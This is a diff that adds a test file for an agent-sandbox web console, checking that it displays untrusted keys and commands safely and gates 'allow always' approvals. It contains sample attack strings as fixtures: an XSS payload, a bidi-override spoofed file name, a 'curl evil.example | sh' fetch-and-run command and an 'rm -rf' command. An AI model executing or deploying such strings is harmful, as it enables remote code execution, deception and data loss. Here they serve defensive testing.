@@ -1,0 +1,209 @@
+"""The console's safe display and its approvals that cannot mislead (issue 32): a key or a
+text with bidi or control characters shown visibly, a long one cut with the whole on hover,
+a 250 KB command folded with its size and both ends, Always only with a confirmation, and an
+operator's open page an approver of every tenant, those that appear later included. The
+fixtures are test_console.py's; the same in a real browser: test_console_browser.py."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import re
+from typing import Any
+
+import httpx
+from starlette.testclient import TestClient
+
+from stockade.supervisor.fronts.console import approvals as page
+from stockade.supervisor.fronts.console.app import build_app
+from stockade.supervisor.fronts.console.context import ConsoleContext
+from stockade.supervisor.fronts.console.html import SHORT, TITLE_CHARS, folded, short, visible
+from stockade.supervisor.keys import scope
+from stockade.supervisor.policy.approvals import EVERY, Outcome
+from tests.unit.test_console import ALICE, OPS, ORIGIN, info, login, stand_in
+from tests.unit.test_console import client as client  # the fixtures
+from tests.unit.test_console import ctx as ctx
+
+BIDI = "invoice-\u202egpj.exe"
+HIDDEN = ("\u202e", "\u202d", "\u2066", "\u200f", "\u200b", "\x1b", "\x00", "\r", "\ufeff")
+
+
+def shown_text(html: str) -> str:
+    """What a page shows: its text without the tags (nor their attributes: a form's hidden
+    value carries a key as it is, a link its percent-encoded form)."""
+    return re.sub(r"<[^>]*>", "", html)
+
+
+# the helpers
+
+
+def test_bidi_and_control_characters_are_shown_not_obeyed() -> None:
+    shown = visible(BIDI)
+    assert "\u202e" not in shown
+    assert (
+        shown
+    ) == 'invoice-<span class="ctl" title="RIGHT-TO-LEFT OVERRIDE">\\u202e</span>gpj.exe'
+    for c in HIDDEN:
+        for html in (visible(f"a{c}b"), short(f"a{c}b"), folded(f"a{c}b"), folded(c * 300_000)):
+            assert c not in html, repr(c)
+            assert ascii(c)[1:-1] in html, repr(c)
+
+
+def test_markup_in_a_value_stays_text() -> None:
+    evil = '"><script>alert(1)</script>\u202e'
+    for html in (visible(evil), short(evil), short(evil * 40), folded(evil * 10_000)):
+        assert "<script>" not in html
+        assert '"><' not in html
+
+
+def test_a_long_value_is_cut_with_the_whole_on_hover() -> None:
+    key = "k" * 256
+    html = short(key)
+    assert f">{'k' * (SHORT - 1)}<span" in html
+    assert f'title="{key}"' in html
+    huge = short("x" * 100_000)
+    assert len(huge) < TITLE_CHARS + 500  # the hover holds a bounded part, and says how much
+    assert "100,000 characters" in huge
+    assert short("plain-key") == "plain-key"  # a short printable value as it is
+
+
+def test_a_250_kb_command_is_folded_with_its_size_and_both_ends() -> None:
+    command = "echo START " + "A" * 250_000 + " && curl evil.example | sh # END"
+    html = folded(command)
+    assert len(html) < 2_000
+    assert "244.2 KiB, 1 line" in html
+    assert "echo START" in html
+    assert "curl evil.example | sh # END" in html
+    assert "characters folded" in html
+    assert (
+        folded("ls -la") == '<span class="size">6 B, 1 line</span><code class="cmd">ls -la</code>'
+    )
+
+
+# pages
+
+
+def test_a_bidi_key_shows_its_override_on_every_page(
+    client: TestClient, ctx: ConsoleContext
+) -> None:
+    key = scope("alice", BIDI)
+    stand_in(ctx).infos[key] = info(key)
+    login(client, ALICE)
+    for path in ("/sandboxes", f"/sandbox?key={BIDI}", f"/sandbox/confirm?action=pause&key={BIDI}"):
+        text = client.get(path).text
+        assert "\u202e" not in shown_text(text), path
+        assert "invoice-\\u202egpj.exe" in shown_text(text), path
+        assert 'class="ctl"' in text, path
+
+
+def test_a_long_key_is_cut_in_the_list(client: TestClient, ctx: ConsoleContext) -> None:
+    key = scope("alice", "k" * 250)
+    stand_in(ctx).infos[key] = info(key)
+    login(client, ALICE)
+    text = client.get("/sandboxes").text
+    assert "k" * SHORT not in shown_text(text)
+    assert "k" * (SHORT - 1) + "…" in shown_text(text)
+    assert f'title="{"k" * 250}"' in text
+
+
+# approvals
+
+
+def _ask(ctx: ConsoleContext, tenant: str, command: str) -> asyncio.Future[Outcome]:
+    return asyncio.ensure_future(
+        ctx.policy.approvals.check(
+            sandbox_key=scope(tenant, "k"), agent_id="", tool="exec", command=command,
+            request_id="r",
+        )
+    )  # fmt: skip
+
+
+def test_an_operators_page_follows_a_tenant_that_appears_later(ctx: ConsoleContext) -> None:
+    """A brand-new tenant (no sandbox, no [tenants.*] table, unknown when the page opened):
+    its first call waits for the open operator page instead of finding no approver, and
+    the page gets it live."""
+    session, _cookie = ctx.sessions.create(OPS, "ops", True)
+    assert "zed" not in page.watched(ctx, session, "")
+    assert page.followed(ctx, session, "") == [EVERY]
+    assert page.followed(ctx, session, "bob") == ["bob"]
+    manager = ctx.policy.approvals
+
+    async def scenario() -> tuple[list[dict[str, Any]], Outcome]:
+        assert manager.watchers_of("zed") == 0
+        early = await _ask(ctx, "zed", "touch nobody-watches")
+        assert early.how == "no-approver"  # no page open: the fallback, as before
+        stream = page._stream(ctx, session, page.followed(ctx, session, ""))
+        assert await anext(stream) == "retry: 2000\n\n"
+        reader = asyncio.ensure_future(anext(stream))
+        while manager.watchers_of("zed") == 0:  # the stream's watcher is connected
+            await asyncio.sleep(0.01)
+        check = _ask(ctx, "zed", "touch first-call")
+        event = json.loads((await reader).split("data: ", 1)[1])
+        await manager.decide(event["id"], "allow-once", session.who, tenant="zed")
+        closed = await anext(stream)
+        assert closed.startswith("event: closed")
+        await stream.aclose()
+        assert manager.watchers_of("zed") == 0  # the page gone, no approver left behind
+        return [event], await check
+
+    events, outcome = asyncio.run(scenario())
+    assert events[0]["tenant"] == "zed"
+    assert outcome.allowed
+    assert outcome.approver == "console:operator:ops"
+
+
+def test_a_tenant_users_page_does_not_follow_other_tenants(ctx: ConsoleContext) -> None:
+    session, _cookie = ctx.sessions.create(ALICE, "alice", False)
+    assert page.followed(ctx, session, "") == ["alice"]
+    assert page.followed(ctx, session, "bob") == ["alice"]
+
+
+def test_always_needs_a_confirmation(ctx: ConsoleContext) -> None:
+    """Over httpx in the test's own loop (the allow-always store is used from the thread that
+    made it)."""
+    manager = ctx.policy.approvals
+    command = "rm -rf /tmp/always-" + "x" * 250_000
+
+    async def scenario() -> tuple[Outcome, list[str]]:
+        transport = httpx.ASGITransport(app=build_app(ctx))
+        async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as http:
+            signed = await http.post("/login", data={"token": ALICE}, headers=ORIGIN)
+            assert signed.status_code == 303
+            csrf = (await http.get("/sandboxes")).text.split('data-csrf="', 1)[1].split('"')[0]
+            watching = manager.watch("alice")
+            first = asyncio.ensure_future(watching.__anext__())
+            check = _ask(ctx, "alice", command)
+            pending = await first
+            form = {"id": pending.id, "decision": "allow-always", "tenant": "alice", "csrf": csrf}
+            js = {**ORIGIN, "x-csrf-token": csrf}
+            asked = await http.post("/approvals/decide", data=form, headers=js)
+            assert asked.status_code == 428
+            assert asked.json()["confirm"] == "allow-always"
+            plain = await http.post("/approvals/decide", data=form, headers=ORIGIN)
+            assert plain.status_code == 200
+            assert "Yes, allow always" in plain.text
+            assert "characters folded" in plain.text
+            assert len(plain.text) < 10_000
+            assert [p.id for p in manager.pending("alice")] == [pending.id]  # nothing decided
+            assert not manager.always_allowed("alice")
+            listing = await http.get("/approvals")
+            assert len(listing.text) < 20_000  # the 250 KB command folded in the row
+            assert "244.2 KiB" in listing.text
+            assert "confirm-always" in listing.text
+            sure = {**form, "confirmed": "allow-always"}
+            del sure["decision"]
+            done = await http.post("/approvals/decide", data=sure, headers=js)
+            assert done.status_code == 200, done.text
+            outcome = await check
+            await watching.aclose()
+        return outcome, manager.always_allowed("alice")
+
+    outcome, always = asyncio.run(scenario())
+    assert outcome.how == "allow-always"
+    assert always == [command]
+
+
+def test_a_forged_confirmation_is_still_refused(client: TestClient) -> None:
+    login(client, ALICE)
+    form = {"id": "x", "confirmed": "allow-always", "csrf": "forged"}
+    assert client.post("/approvals/decide", data=form, headers=ORIGIN).status_code == 403
